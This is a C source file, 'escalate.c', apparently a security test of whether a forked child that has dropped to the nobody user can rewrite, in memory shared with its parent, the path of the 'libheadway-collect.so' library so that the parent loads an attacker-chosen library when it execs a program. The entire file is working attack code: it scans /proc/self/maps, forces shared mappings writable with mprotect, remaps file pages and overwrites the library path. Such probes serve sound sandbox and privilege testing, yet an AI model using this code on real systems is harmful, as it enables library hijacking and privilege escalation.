/* SPDX-License-Identifier: Apache-2.0 */
/* escalate.c - a process that has given up its rights tries to choose the library that its parent loads at exec.
 *
 * escalate LIBRARY PROGRAM: a forked child becomes another user (where it may), then writes LIBRARY over every path of
 * the collect library that it can reach in memory shared with its parent: in mappings that it may write, in those that
 * it can make writable, and in every other page of their files. The parent then becomes PROGRAM.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MOST_RANGES = 512, PAGE = 4096, NOBODY = 65534, MOST_PAGES = 64 };

static struct range {
	char *from, *to;
} ranges[MOST_RANGES];
static int range_count;
static const char *evil;
static sigjmp_buf fault;

static void on_fault(int number)
{
	siglongjmp(fault, number);
}

/* Before the child changes its user: afterwards it may not read this file any more. */
static void find_shared_ranges(void)
{
	char line[4096];
	FILE *maps = fopen("/proc/self/maps", "r");
	while (maps && range_count < MOST_RANGES && fgets(line, sizeof line, maps)) {
		unsigned long from, to;
		char rights[5];
		if (sscanf(line, "%lx-%lx %4s", &from, &to, rights) == 3 && rights[3] == 's')
			ranges[range_count++] = (struct range){(char *)from, (char *)to};
	}
	if (maps)
		fclose(maps);
}

static void overwrite(const struct range *range)
{
	static const char name[] = "libheadway-collect.so";
	if (sigsetjmp(fault, 1))
		return;
	for (char *at = range->from; at + sizeof name <= range->to; at++) {
		if (memcmp(at, name, sizeof name - 1) != 0)
			continue;
		char *begin = at;
		while (begin > range->from && begin[-1])
			begin--;
		strcpy(begin, evil);
	}
}

static void attack(void)
{
	for (int i = 0; i < range_count; i++) {
		struct range *range = &ranges[i];
		mprotect(range->from, (size_t)(range->to - range->from), PROT_READ | PROT_WRITE);
		overwrite(range);
		for (size_t page = 0; page < MOST_PAGES; page++)
			if (remap_file_pages(range->from, PAGE, 0, page, 0) == 0)
				overwrite(range);
	}
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	evil = argv[1];
	pid_t child = fork();
	if (child == 0) {
		struct sigaction action = {.sa_handler = on_fault};
		sigaction(SIGSEGV, &action, NULL);
		sigaction(SIGBUS, &action, NULL);
		find_shared_ranges();
		if (setgid(NOBODY) != 0 || setuid(NOBODY) != 0)
			fprintf(stderr, "as the same user\n");
		alarm(5); /* what the child overwrites may be what it needs itself */
		attack();
		syscall(SYS_exit_group, 0);
	}
	waitpid(child, NULL, 0);
	execv(argv[2], argv + 2);
	return 3;
}
